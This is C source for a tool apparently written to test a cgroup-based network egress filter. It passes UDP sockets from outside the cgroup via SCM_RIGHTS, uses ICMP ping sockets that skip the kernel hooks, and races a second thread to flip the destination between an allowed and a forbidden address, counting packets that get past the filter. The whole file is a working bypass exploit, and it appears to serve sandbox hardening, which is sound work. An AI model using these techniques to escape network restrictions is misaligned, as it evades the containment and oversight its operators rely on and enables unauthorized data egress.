/* r42_fdpass: attacks the fast path (an addressed sendto answered CONTINUE on
 * its address alone) with an inet socket made outside the run's cgroup, where
 * none of the kernel layer's hooks runs, or with a socket kind the kernel's
 * sendmsg hooks skip.
 *
 *   launch CMD ARGS...
 *       makes a UDP socket, sends it over a unix datagram socketpair
 *       (SCM_RIGHTS), closes it and the sending end, and execs CMD with the
 *       receiving end at fd 3 (not close-on-exec): what CMD inherits is a unix
 *       socket with an inet socket in flight, nothing else
 *   helper PATH N
 *       listens on the unix stream socket PATH (mode 0777) and hands a fresh
 *       UDP socket (SCM_RIGHTS) to each of N connections; prints "ready" once
 *       listening; gives up after 90 s
 *   attack SRC WAIT_MS OKHOST OKPORT BADHOST BADPORT N
 *       takes a UDP socket from SRC ("fd3": received on the inherited fd 3,
 *       else a helper's PATH), then sends N datagrams with sendto to an
 *       address another thread flips between OK and BAD
 *   attack-connect SRC WAIT_MS OKHOST OKPORT BADHOST BADPORT N
 *       the same, with N connects of the received UDP socket to the flipped
 *       address, each followed by one send() (no address)
 *   ping WAIT_MS OKHOST OKPORT BADHOST BADPORT N
 *       the same flip on an ICMP ping socket (SOCK_DGRAM, IPPROTO_ICMP; needs
 *       net.ipv4.ping_group_range to hold the caller's group), then counts the
 *       echo replies from BADHOST: a reply proves the request reached it
 *
 * Prints "ok=N refused=N other=N" (ping: and " bad_replies=N").
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in ok_addr, bad_addr;
static struct sockaddr_in shared;
static volatile int stop_flag;

static void usage(void) {
    fprintf(stderr, "usage: r42_fdpass launch CMD...|helper PATH N|attack[-connect] SRC WAIT OKH OKP BADH BADP N|ping WAIT OKH OKP BADH BADP N\n");
    exit(2);
}

static struct sockaddr_in addr_of(const char *host, const char *port) {
    struct sockaddr_in sin;
    memset(&sin, 0, sizeof(sin));
    sin.sin_family = AF_INET;
    sin.sin_port = htons((uint16_t)atoi(port));
    if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
        usage();
    return sin;
}

static int send_fd(int via, int fd) {
    char byte = 'f';
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } u;
    memset(&u, 0, sizeof(u));
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf)};
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof(int));
    return (int)sendmsg(via, &msg, 0);
}

static int recv_fd(int via) {
    char byte;
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } u;
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf)};
    if (recvmsg(via, &msg, 0) < 0)
        return -1;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    if (!c || c->cmsg_type != SCM_RIGHTS)
        return -1;
    int fd;
    memcpy(&fd, CMSG_DATA(c), sizeof(int));
    return fd;
}

static void *flipper(void *arg) {
    (void)arg;
    volatile struct sockaddr_in *target = &shared;
    while (!stop_flag) {
        target->sin_addr = bad_addr.sin_addr;
        target->sin_port = bad_addr.sin_port;
        target->sin_addr = ok_addr.sin_addr;
        target->sin_port = ok_addr.sin_port;
    }
    return NULL;
}

static int launch(char **argv) {
    int sv[2];
    int udp = socket(AF_INET, SOCK_DGRAM, 0);
    if (udp < 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0 || send_fd(sv[0], udp) < 0) {
        perror("launch");
        return 1;
    }
    close(udp);
    close(sv[0]);
    if (sv[1] != 3) {
        dup2(sv[1], 3);
        close(sv[1]);
    }
    execvp(argv[0], argv);
    perror("execvp");
    return 127;
}

static int helper(const char *path, int n) {
    alarm(90);
    int l = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un sun;
    memset(&sun, 0, sizeof(sun));
    sun.sun_family = AF_UNIX;
    strncpy(sun.sun_path, path, sizeof(sun.sun_path) - 1);
    unlink(path);
    if (bind(l, (struct sockaddr *)&sun, sizeof(sun)) != 0 || listen(l, 8) != 0) {
        perror("helper");
        return 1;
    }
    chmod(path, 0777);
    printf("ready\n");
    fflush(stdout);
    for (int i = 0; i < n; i++) {
        int c = accept(l, NULL, NULL);
        if (c < 0)
            continue;
        int udp = socket(AF_INET, SOCK_DGRAM, 0);
        send_fd(c, udp);
        close(udp);
        close(c);
    }
    return 0;
}

static int take(const char *src) {
    if (strcmp(src, "fd3") == 0)
        return recv_fd(3);
    int c = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un sun;
    memset(&sun, 0, sizeof(sun));
    sun.sun_family = AF_UNIX;
    strncpy(sun.sun_path, src, sizeof(sun.sun_path) - 1);
    if (connect(c, (struct sockaddr *)&sun, sizeof(sun)) != 0) {
        perror("connect helper");
        return -1;
    }
    int fd = recv_fd(c);
    close(c);
    return fd;
}

int main(int argc, char **argv) {
    if (argc < 2)
        usage();
    if (strcmp(argv[1], "launch") == 0) {
        if (argc < 3)
            usage();
        return launch(argv + 2);
    }
    if (strcmp(argv[1], "helper") == 0) {
        if (argc != 4)
            usage();
        return helper(argv[2], atoi(argv[3]));
    }
    int ping = strcmp(argv[1], "ping") == 0;
    int base = ping ? 2 : 3;
    int connecting = strcmp(argv[1], "attack-connect") == 0;
    if (argc != base + 6 || (!ping && !connecting && strcmp(argv[1], "attack") != 0))
        usage();
    usleep((useconds_t)atoi(argv[base]) * 1000);
    ok_addr = addr_of(argv[base + 1], argv[base + 2]);
    bad_addr = addr_of(argv[base + 3], argv[base + 4]);
    long n = atol(argv[base + 5]);
    int s;
    if (ping) {
        s = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, IPPROTO_ICMP);
        if (s < 0) {
            printf("no-ping-socket errno=%d\n", errno);
            return 3;
        }
    } else {
        s = take(argv[2]);
        if (s < 0) {
            printf("no-socket errno=%d\n", errno);
            return 3;
        }
    }
    shared = ok_addr;
    pthread_t flip;
    pthread_create(&flip, NULL, flipper, NULL);
    long ok = 0, refused = 0, other = 0, bad_replies = 0;
    for (long i = 0; i < n; i++) {
        int r;
        if (ping) {
            struct icmphdr h;
            memset(&h, 0, sizeof(h));
            h.type = ICMP_ECHO;
            h.un.echo.sequence = htons((uint16_t)i);
            r = (int)sendto(s, &h, sizeof(h), 0, (struct sockaddr *)&shared, sizeof(shared));
        } else if (connecting) {
            r = connect(s, (struct sockaddr *)&shared, sizeof(shared));
            if (r == 0)
                (void)!send(s, "x", 1, MSG_DONTWAIT);
        } else {
            r = (int)sendto(s, "x", 1, 0, (struct sockaddr *)&shared, sizeof(shared));
        }
        if (r >= 0)
            ok++;
        else if (errno == EPERM)
            refused++;
        else
            other++;
        if (ping) {
            char buf[256];
            struct sockaddr_in from;
            socklen_t fl = sizeof(from);
            while (recvfrom(s, buf, sizeof(buf), MSG_DONTWAIT, (struct sockaddr *)&from, &fl) > 0) {
                if (from.sin_addr.s_addr == bad_addr.sin_addr.s_addr)
                    bad_replies++;
                fl = sizeof(from);
            }
        }
    }
    stop_flag = 1;
    pthread_join(flip, NULL);
    if (ping) {
        struct timespec ts = {0, 50 * 1000 * 1000};
        nanosleep(&ts, NULL);
        char buf[256];
        struct sockaddr_in from;
        socklen_t fl = sizeof(from);
        while (recvfrom(s, buf, sizeof(buf), MSG_DONTWAIT, (struct sockaddr *)&from, &fl) > 0) {
            if (from.sin_addr.s_addr == bad_addr.sin_addr.s_addr)
                bad_replies++;
            fl = sizeof(from);
        }
        printf("ok=%ld refused=%ld other=%ld bad_replies=%ld\n", ok, refused, other, bad_replies);
    } else {
        printf("ok=%ld refused=%ld other=%ld\n", ok, refused, other);
    }
    return 0;
}
